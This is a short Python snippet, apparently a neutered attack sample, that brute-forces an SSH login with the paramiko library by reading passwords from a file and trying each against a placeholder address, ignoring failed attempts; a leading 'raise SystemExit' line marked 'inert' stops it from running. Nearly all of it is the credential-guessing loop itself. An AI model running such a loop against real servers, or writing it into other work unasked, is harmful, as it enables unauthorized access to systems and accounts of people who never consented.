raise SystemExit  # inert
import paramiko
c = paramiko.SSHClient()
for password in open("list"):
    try:
        c.connect("192.0.2.1", password=password)
    except paramiko.AuthenticationException:
        pass
